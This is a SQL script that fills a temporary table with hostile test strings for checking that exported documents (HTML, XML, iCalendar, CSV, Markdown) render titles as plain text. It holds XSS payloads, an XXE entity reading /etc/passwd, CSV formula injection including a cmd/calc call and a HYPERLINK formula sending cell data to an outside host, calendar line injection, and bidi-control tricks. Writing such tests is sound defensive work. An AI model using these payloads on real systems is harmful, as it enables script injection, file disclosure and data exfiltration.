-- Texts that would be more than text in some document: what every document
-- that leaves is tried with.  Each is a title of which a document may show the
-- characters and nothing else.  Temporary table hostile (number, kind, value).
CREATE TEMP TABLE hostile (
    number  integer GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    kind    text NOT NULL,
    value   text NOT NULL
);

-- HTML and SVG
INSERT INTO hostile (kind, value)
SELECT 'html', v
FROM unnest(ARRAY[
    '<script>alert(1)</script>', '</script><script>alert(1)</script>', '</ScRiPt ><img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)">',
    '"><svg onload=alert(1)>', ''' onmouseover=''alert(1)', '" onfocus="alert(1)" autofocus="', '<svg/onload=alert(1)//', '<iframe src="javascript:alert(1)">',
    '<!-- ', ' --><b>', '<!--><img src=x>', '--!><img src=x>', '<![CDATA[', ']]><b>', '<style>*{display:none}</style>', '</title><b>', '</textarea><b>', '</style><b>',
    '<base href="//x.example">', '<meta http-equiv=refresh content="0;url=//x.example">', '<a href="javascript:alert(1)">x</a>', '&lt;script&gt;', '&#60;script&#62;', '&#x3c;script>', '&amp;lt;b&amp;gt;',
    '<math><mtext></p><img src=x>', '<svg><use href="data:image/svg+xml,x#y"/>', '<foreignObject><body onload="alert(1)"/></foreignObject>', '`onmouseover=alert(1)',
    '<' || U&'\2028' || 'script>', U&'<\0009script\000Aalert(1)>', '＜script＞alert(1)＜/script＞', '<plaintext>', '<noscript><p title="</noscript><img src=x>">']) v;

-- XML
INSERT INTO hostile (kind, value)
SELECT 'xml', v
FROM unnest(ARRAY[
    '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '&e;', '&lol9;', '&#0;', '&#x1F;', '&#xFFFE;', '</title><title>', '</event></room>', '<a b=''c'' d="e"/>',
    'a' || U&'\0001' || 'b', 'a' || U&'\0008\000B\000C\000E\001F' || 'b', U&'a\007F\0080\009Fb', U&'a\FFFE\FFFFb', U&'a\FDD0\FDEFb', U&'a\+01FFFE\+10FFFFb', U&'\FEFFa', 'xml:space="preserve"']) v;

-- iCalendar
INSERT INTO hostile (kind, value)
SELECT 'icalendar', v
FROM unnest(ARRAY[
    E'a\r\nEND:VEVENT', E'a\nEND:VCALENDAR\nBEGIN:VCALENDAR', E'a\rATTACH:http://x.example/', U&'a\2028ATTACH:x', U&'a\0085ATTACH:x', E'a\r\n BEGIN:VALARM', E'a\\nATTENDEE:mailto:x@x.example',
    'a;ALTREP="http://x.example"', 'a,b;c:d"e^f', 'CN="x":mailto:x@x.example', '"', '^n^''^^', E'\\', E'a\\', E'\\\\;\\,\\n', E'\n\n\n', repeat('会', 40), repeat('🎉', 30), repeat('é', 75), repeat('a', 74) || '会议', E'\t']) v;

-- Spreadsheets
INSERT INTO hostile (kind, value)
SELECT 'csv', v
FROM unnest(ARRAY[
    '=1+1', '=cmd|'' /C calc''!A0', '+1+1', '-1+1', '@SUM(A1)', E'\t=1+1', E'\r=1+1', E'\n=1+1', '  =1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', U&'\00A0=1+1', U&'\200B=1+1', U&'\3000=1+1', U&'\FEFF=1+1',
    '=HYPERLINK("http://x.example?"&A1,"x")', '"=1+1"', '",=1+1,"', ';=1+1;', E'a",\n"=1+1', '-2', '+8613800000000', '''=1+1']) v;

-- Markdown
INSERT INTO hostile (kind, value)
SELECT 'markdown', v
FROM unnest(ARRAY[
    '# x', '[x](javascript:alert(1))', '![x](http://x.example/p.png)', '<http://x.example>', 'http://x.example', 'www.x.example', 'WWW.x.example', 'x@x.example', '**x**', '__x__', '`x`', '```', '~~~', '- x', '+ x', '* x', '1. x', '1) x', '> x', '---', '===', '    x',
    E'a\n# b', E'a\n---', '| a | b |', '[^1]: x', '[x]: javascript:alert(1)', ':x:', '$x$', '{{ x }}', '{% x %}', '@everyone', E'\\# x', 'a&nbsp;b']) v;

-- Direction, and what is not to be seen
INSERT INTO hostile (kind, value)
SELECT 'direction', v
FROM unnest(ARRAY[
    U&'a\202Ecba', U&'a\202D\202C', U&'\202A\202B', U&'a\2066b', U&'\2067a', U&'\2068a\2069', U&'a\200Fb', U&'a\FFF9b\FFFAc\FFFB', U&'\206A\206F', 'مرحبا', 'שלום (1)', U&'a\0301\0301\0301', '👩‍💻', ' ', '']) v;

-- As long as a title can be
INSERT INTO hostile (kind, value) VALUES
    ('long', repeat('<&">', 250000)),
    ('long', repeat('会', 333333)),
    ('long', repeat(E'\\,;\n', 250000));
